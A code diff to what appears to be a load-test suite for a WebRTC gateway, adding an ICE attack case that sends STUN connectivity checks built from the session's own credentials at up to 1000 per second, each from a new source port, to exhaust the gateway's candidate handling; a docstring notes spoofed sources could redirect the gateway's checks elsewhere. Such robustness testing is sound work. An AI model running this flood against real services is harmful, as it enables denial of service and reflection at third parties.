@@ -12,13 +12,17 @@ gateway sends it.
 from __future__ import annotations
 
 import asyncio
+import random
+import socket
 import time
 from collections.abc import Callable
 from struct import pack
 
+from aioice import stun
 from aiortc import RTCPeerConnection
 from aiortc.rtcsctptransport import SCTP_DATA_FIRST_FRAG, WEBRTC_BINARY, DataChunk, RTCSctpTransport, SackChunk
 from aiortc.rtp import RTCP_PSFB, RTCP_PSFB_PLI, RTCP_RTPFB, RTCP_RTPFB_NACK, pack_rtcp_packet
+from aiortc.sdp import SessionDescription
 
 from loadtests.gateway_peer import Peer, short
 
@@ -168,4 +172,39 @@ async def rtcp_plis(http, victim, seconds: float = 20.0, per_second: float = 100
     return await rtcp_flood(http, VideoSeen.pli, seconds, per_second)
 
 
-CASES = (sctp_past_window, sctp_past_hole, sctp_empty_chunks, sctp_sack_gaps, rtcp_nacks, rtcp_plis)
+def binding_request(gateway_ufrag: str, own_ufrag: str, password: str) -> bytes:
+    """An ICE connectivity check the gateway accepts as its peer's: USERNAME and MESSAGE-INTEGRITY from the SDP."""
+    request = stun.Message(message_method=stun.Method.BINDING, message_class=stun.Class.REQUEST)
+    request.attributes.update({"USERNAME": f"{gateway_ufrag}:{own_ufrag}", "PRIORITY": 1853824767,
+                               "ICE-CONTROLLING": random.getrandbits(64)})
+    request.add_message_integrity(password.encode())
+    request.add_fingerprint()
+    return bytes(request)
+
+
+async def ice_new_addresses(http, victim, seconds: float = 20.0, per_second: float = 1000.0) -> str:
+    """Valid connectivity checks for the attacker's own session (its credentials are in the offer and answer), each
+    from a new source port: each is a new peer-reflexive candidate to aioice, with its candidate pair and its checks.
+    (From a host that can spoof its source, the addresses are any it likes; the gateway's checks then go to them.)"""
+    peer = Peer()
+    status, text = await peer.connect(http)
+    if status != 200:
+        return f"attacker not connected: {short(status, text)}"
+    answer = SessionDescription.parse(peer.pc.remoteDescription.sdp).media[0]
+    offer = SessionDescription.parse(peer.pc.localDescription.sdp).media[0]
+    target = next((c.ip, c.port) for c in answer.ice_candidates if c.type == "host" and ":" not in c.ip)
+    data = binding_request(answer.ice.usernameFragment, offer.ice.usernameFragment, answer.ice.password)
+    t0, sent = time.monotonic(), 0
+    while time.monotonic() - t0 < seconds and not closed(peer):
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:  # a new source port each time
+            sock.sendto(data, target)
+        sent += 1
+        if sent % 10 == 0:
+            await asyncio.sleep(max(0.0, t0 + sent / per_second - time.monotonic()))
+    took = time.monotonic() - t0
+    ended = "its connection closed by the gateway" if closed(peer) else "its connection still open"
+    await peer.pc.close()
+    return f"{sent} connectivity checks from as many source ports in {took:.1f} s; {ended}"
+
+
+CASES = (sctp_past_window, sctp_past_hole, sctp_empty_chunks, sctp_sack_gaps, rtcp_nacks, rtcp_plis, ice_new_addresses)
